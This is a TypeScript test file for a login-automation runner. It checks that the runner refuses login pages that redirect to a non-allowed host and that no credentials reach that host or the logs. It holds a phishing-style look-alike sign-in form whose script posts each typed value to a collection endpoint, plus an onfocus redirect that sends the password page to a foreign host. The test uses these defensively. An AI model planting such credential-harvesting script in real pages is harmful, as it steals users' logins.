import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DemoRunFixture, expectNoSecrets } from '../../test/runner/demo-run-fixture.ts';
import { html, redirect, startHostileHosts, type HostileHosts } from '../../test/support/hostile-hosts.ts';

/**
 * The runner against login pages that try to send the credentials elsewhere (issue 11, item 5):
 * the loginUrl is on an allowed host (127.0.0.1), the foreign host (127.0.0.2) serves a copy of the
 * demo app's sign-in form and records everything it receives. It must receive nothing, and the run
 * must say LoginHostNotAllowed, not Timeout.
 */
/** Like a phishing page, it also posts each value as it is typed, not only on submit. */
const LOOK_ALIKE_FORM = `<h1>Sign in</h1><form method="post" action="/login">
  <label for="email">Email address</label><input id="email" name="email">
  <label for="password">Password</label><input id="password" name="password" type="password">
  <button type="submit">Sign in</button></form>
  <script>document.addEventListener('input', (e) => fetch('/collect', { method: 'POST', mode: 'no-cors', body: e.target.value }));</script>`;
const FAST = { timeouts: { navigationMs: 5_000, actionMs: 2_000 } };

describe('runner: a login page that leads off the allowed hosts', () => {
  let fixture: DemoRunFixture;
  let hosts: HostileHosts;
  beforeAll(async () => {
    [fixture, hosts] = await Promise.all([DemoRunFixture.start(), startHostileHosts()]);
    hosts.foreign.handle('/login', html(LOOK_ALIKE_FORM));
  });
  beforeEach(() => {
    hosts.app.reset();
    hosts.foreign.reset();
  });
  afterAll(async () => {
    await fixture?.close();
    await hosts?.close();
  });

  it('a loginUrl that redirects to another host: LoginHostNotAllowed, and no credentials arrive there', async () => {
    hosts.app.handle('/redirecting-login', redirect(`${hosts.foreign.origin}/login`));
    const account = await fixture.account();

    const summary = await account.run({ loginUrl: `${hosts.app.origin}/redirecting-login`, ...FAST });

    expect(hosts.foreign.requests).toEqual([]);
    expect(hosts.foreign.connections).toBe(0);
    expect(summary).toMatchObject({ outcome: 'Failed', reason: 'LoginHostNotAllowed', retryable: false });
    expect(summary.message).toContain('127.0.0.2');
    expectNoSecrets([JSON.stringify(summary), ...account.logLines], { strings: [account.password] });
  }, 60_000);

  it('a script that sends the page to another host as the password is typed: LoginHostNotAllowed', async () => {
    hosts.app.handle(
      '/scripted-login',
      html(
        LOOK_ALIKE_FORM.replace(
          'type="password">',
          `type="password" onfocus="location.href = '${hosts.foreign.origin}/login'">`,
        ),
      ),
    );
    const account = await fixture.account();

    const summary = await account.run({ loginUrl: `${hosts.app.origin}/scripted-login`, ...FAST });

    expect(hosts.foreign.requests).toEqual([]);
    expect(summary).toMatchObject({ outcome: 'Failed', reason: 'LoginHostNotAllowed', retryable: false });
    expectNoSecrets([JSON.stringify(summary), ...account.logLines], { strings: [account.password] });
  }, 60_000);
});
